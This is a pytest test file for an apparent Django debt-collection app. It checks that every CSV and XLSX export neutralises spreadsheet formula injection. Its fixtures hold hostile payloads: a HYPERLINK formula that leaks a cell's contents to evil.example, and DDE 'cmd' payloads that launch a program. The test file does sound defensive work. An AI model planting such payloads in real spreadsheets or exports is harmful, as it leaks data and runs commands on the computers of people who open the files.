"""Every file arrears writes for a spreadsheet (CSV, XLSX) shows text a spreadsheet would run
as a formula (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`, `-...`) as text: one rule,
`arrears.domain.text.neutralise`, and no XLSX cell is ever a live formula. The walk below
finds the export commands by their options, so a new export cannot slip past it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import get_commands, load_command_class
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from arrears.domain.text import FORMULA_STARTS, neutralise
from tests import factories, terminal
from tests.apps.negotiation.support import AS_OF, world

pytestmark = pytest.mark.django_db

PHISH = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DAY = AS_OF.isoformat()

# command -> its export options (what the walk below must cover, and covers)
EXPORTS = {
    "ageing": {"--csv", "--xlsx"},
    "worklist": {"--csv", "--xlsx"},
    "negotiation-history": {"--csv"},
    "kpis": {"--csv", "--xlsx"},  # --csv names a folder: a file per table
    "clear": {"--csv", "--xlsx"},  # the firms of an obligations file (XLSX: and the proposal)
    "fees": {"--csv", "--xlsx"},  # fees and interest for the ERP (a credit manager's)
    "statement": {"--xlsx"},  # a debtor's statement of account
}
# what each export carries of the debtor's and the desk's text
SHOWN = {
    "ageing": neutralise(PHISH),
    "worklist": neutralise(PHISH),
    "negotiation-history": neutralise(AT),
    "kpis": "cora",  # figures and people's names: no debtor's text
    "clear": neutralise(PHISH),
    "fees": neutralise(PHISH),
    "statement": neutralise(PHISH),  # the debtor's name
}


def export_options() -> dict[str, set[str]]:
    """arrears' own commands that write CSV or XLSX, by their options."""
    found: dict[str, set[str]] = {}
    for name, app in get_commands().items():
        if not app.startswith("arrears."):
            continue
        parser = load_command_class(app, name).create_parser("arrears", name)
        options = {o for a in parser._actions for o in a.option_strings}
        if options & {"--csv", "--xlsx"}:
            found[name] = options & {"--csv", "--xlsx"}
    return found


def cells_of(path: Path, stdout: str) -> tuple[list[str], list[str]]:
    """(every text cell, the data types of every XLSX cell) of an export."""
    if path.suffix == ".xlsx":
        wb = load_workbook(path)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        return [c.value for c in cells if isinstance(c.value, str)], [c.data_type for c in cells]
    if path.is_dir():
        return [c for f in sorted(path.glob("*.csv")) for c in cells_of(f, "")[0]], []
    text = path.read_text(encoding="utf-8") if path.exists() else stdout
    return [c for row in csv.reader(io.StringIO(text)) for c in row], []


def test_the_walk_covers_every_export_command():
    assert export_options() == EXPORTS


def test_every_export_writes_formulas_as_text_and_no_live_formula(tmp_path):
    w = world()
    w.debtor.name = PHISH
    w.debtor.code = CMD
    w.debtor.save()
    terminal.run(
        "propose", CMD, "--first", "2026-12-07:1000", "--contact", AT, "--as-of", DAY, as_="cora"
    )
    terminal.run(
        "propose",
        CMD,
        "--first",
        "2026-12-04:1000",
        "--contact",
        AT,
        "--as-of",
        DAY,
        "--override",
        "accept",
        "--reason",
        AT,
        as_="cora",
    )
    written = []
    for command, options in EXPORTS.items():
        for option in sorted(options):
            path = tmp_path / f"{command}{option.replace('--', '.')}"
            if command == "negotiation-history":
                args = [command, CMD, option]
            elif command == "statement":
                args = [command, CMD, option, str(path), "--as-of", "2025-07-31"]
            elif command == "clear":  # a credit manager's, on a file naming the firms
                factories.credit_manager("maria", w.debtor.company)
                obligations = tmp_path / "obligations.csv"
                obligations.write_text(
                    f'debtor,creditor,amount,currency\n"{PHISH.replace(chr(34), chr(34) * 2)}",B,1.00,EUR\n'
                    f'B,"{PHISH.replace(chr(34), chr(34) * 2)}",1.00,EUR\n',
                    encoding="utf-8",
                )
                out = terminal.run(command, obligations, option, path, as_="maria")
                texts, types = cells_of(path, out)
                written.append((command, option))
                risky = [t for t in texts if t.startswith(FORMULA_STARTS)]
                assert risky == [] and SHOWN[command] in texts, (command, texts)
                continue
            elif command == "fees":  # a credit manager's; a fee on the debtor's item to export
                from arrears.apps.communications.models import Fee, FeeExport

                factories.credit_manager("maria", w.debtor.company)
                Fee.objects.filter(company=w.debtor.company).update(export=None)
                FeeExport.objects.all().delete()
                item = w.debtor.items.order_by("id").first()
                Fee.objects.get_or_create(
                    company=w.debtor.company, item=item, step=1, kind="fixed",
                    defaults={"step_code": AT, "amount_minor": 500, "currency": item.currency,
                              "charged_on": AS_OF},
                )  # fmt: skip
                out = terminal.run(
                    command, "export", option, path, "--as-of", "2025-09-30", as_="maria"
                )
                texts, types = cells_of(path, out)
                written.append((command, option))
                assert "f" not in types, (command, option)
                risky = [t for t in texts if t.startswith(FORMULA_STARTS)]
                assert risky == [] and SHOWN[command] in texts, (command, texts)
                continue
            else:
                day_option = "--on" if command == "worklist" else "--as-of"
                args = [command, option, str(path), day_option]
                args.append(DAY)
            out = terminal.run(*args, as_="cora")
            texts, types = cells_of(path, out)
            written.append((command, option))
            assert "f" not in types, (command, option)
            risky = [t for t in texts if t.startswith(FORMULA_STARTS)]
            assert risky == [], (command, option, risky)
            assert SHOWN[command] in texts, (command, option, texts)
    assert len(written) == sum(len(o) for o in EXPORTS.values())


def test_neutralise_marks_every_formula_start_and_leaves_other_text_alone():
    for start in FORMULA_STARTS:
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("Nordhafen GmbH") == "Nordhafen GmbH"
    assert neutralise("a=b") == "a=b"


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r 'aZ1é"), max_size=6), max_size=20))
def test_the_frame_version_neutralises_as_the_one_cell_rule_does(texts):
    import polars as pl

    from arrears.apps.reports.exports import neutralised

    frame = pl.DataFrame({"text": texts}, schema={"text": pl.String})
    assert neutralised(frame)["text"].to_list() == [neutralise(t) for t in texts]
